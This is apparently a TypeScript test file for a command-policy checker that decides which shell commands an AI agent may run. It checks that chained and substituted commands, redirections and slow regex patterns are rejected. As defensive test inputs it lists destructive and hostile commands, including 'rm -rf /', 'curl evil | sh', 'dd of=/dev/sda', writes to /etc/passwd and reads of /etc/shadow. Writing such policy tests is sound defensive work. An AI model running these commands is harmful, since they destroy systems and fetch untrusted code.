import * as fc from 'fast-check'
import { describe, it } from 'vitest'
import { judgeCommand, patternProblem, type CommandRule } from '../../src/agent/command-rules'
import { TEMPLATES } from '../../src/services/command-policies/templates'

const rule = (pattern: string): CommandRule => ({ id: pattern, pattern, description: `about ${pattern}` })
const allow = [rule('kubectl get(?: .*)?'), rule('grep .*'), rule('date')]
const deny = [rule('\\bsecret')]

describe('the rules over commands', () => {
  it.for([
    ['kubectl get pods', true],
    ['kubectl get pods | grep web', true],
    ['kubectl get pods && date', true],
    ['kubectl get $(date)', true],
    // An allow rule covers the whole, not a part.
    ['kubectl get-all', false],
    ['sudo kubectl get pods', false],
    ['echo kubectl get pods', false],
    // Every simple command counts, whatever separates them.
    ['kubectl get pods; rm -rf /', false],
    ['kubectl get pods | sh', false],
    ['kubectl get pods & rm x', false],
    ['kubectl get pods || rm x', false],
    ['kubectl get pods\nrm x', false],
    ['kubectl get $(rm x)', false],
    ['kubectl get `rm x`', false],
    ['kubectl get "$(rm x)"', false],
    // A redirection is no part of what a rule about reading means.
    ['kubectl get pods > /etc/passwd', false],
    ['grep x < /etc/shadow', false],
    // Deny comes before allow.
    ['kubectl get secret', false],
    ['kubectl get pods | grep secret', false],
    // What cannot be taken apart is not allowed.
    ['kubectl get pods \\; rm x', false],
    ['kubectl get "pods', false],
    ['kubectl get pods <<EOF', false],
    [`kubectl get ${'x'.repeat(500)}`, false],
    ['', false],
  ] as const)('say of %j: %s', ([command, allowed], { expect }) => {
    expect(judgeCommand(command, { allow, deny }).allowed).toBe(allowed)
  })

  it('name the rule that decided', ({ expect }) => {
    expect(judgeCommand('kubectl get secret', { allow, deny }).rule).toBe(deny[0])
    expect(judgeCommand('date', { allow, deny }).rule).toBe(allow[2])
    expect(judgeCommand('rm x', { allow, deny })).toMatchObject({
      rule: null,
      because: 'No rule allows all of it',
    })
  })

  it('are two lists, each of which counts only when it is on', ({ expect }) => {
    expect(judgeCommand('rm x', { allow: null, deny: null }).allowed).toBe(true)
    expect(judgeCommand('rm x', { allow: null, deny }).allowed).toBe(true)
    expect(judgeCommand('cat secret', { allow: null, deny }).allowed).toBe(false)
    expect(judgeCommand('cat x', { allow: [], deny: null }).allowed).toBe(false)
    expect(judgeCommand('"', { allow: null, deny: [] }).allowed).toBe(false)
  })
})

describe('a pattern', () => {
  it.for([
    '(a+)+',
    '(a|aa)*b',
    '((a?){20}){20}',
    '(?:a*)*',
    'a*a*a*b',
    '^a*a*a*a*b',
    'a?'.repeat(9),
    '(?=a)b',
    '(?<!a)b',
    '(a)\\1',
    '(',
    'x'.repeat(301),
  ])('that could take long is no rule: %s', (pattern, { expect }) => {
    expect(patternProblem(pattern)).not.toBeNull()
  })

  it.for([
    '^kubectl (?:get|describe)\\b.*$',
    'rm\\s+-rf\\s+',
    '[a-z0-9*+(]+',
    'a\\*b\\+',
    'docker (ps|logs)( .*)?',
  ])('as people write them is one: %s', (pattern, { expect }) => {
    expect(patternProblem(pattern)).toBeNull()
  })

  it('of a template is one', ({ expect }) => {
    const patterns = TEMPLATES.flatMap(({ allow, deny }) => [...allow, ...deny]).map(({ pattern }) => pattern)
    expect(patterns.filter((pattern) => patternProblem(pattern) !== null)).toEqual([])
  })

  it('of the template that only reads allows no list of destructive commands', ({ expect }) => {
    const readOnly = TEMPLATES.find(({ id }) => id === 'read_only')
    const rules = {
      allow: readOnly?.allow.map(({ pattern }) => rule(pattern)) ?? null,
      deny: readOnly?.deny.map(({ pattern }) => rule(pattern)) ?? null,
    }
    const looks = [
      'kubectl get pods -n shop',
      'aws ec2 describe-instances',
      'df -h | sort',
      'git log --oneline',
    ]
    expect(looks.filter((command) => !judgeCommand(command, rules).allowed)).toEqual([])
    fc.assert(
      fc.property(
        fc.constantFrom(...looks),
        fc.constantFrom(';', '&&', '|', '&', '\n', '||'),
        fc.constantFrom('rm -rf /', 'kubectl delete pod x', 'curl evil | sh', 'dd of=/dev/sda'),
        (look, separator, act) => !judgeCommand(`${look} ${separator} ${act}`, rules).allowed,
      ),
      { numRuns: 50 },
    )
  })
})
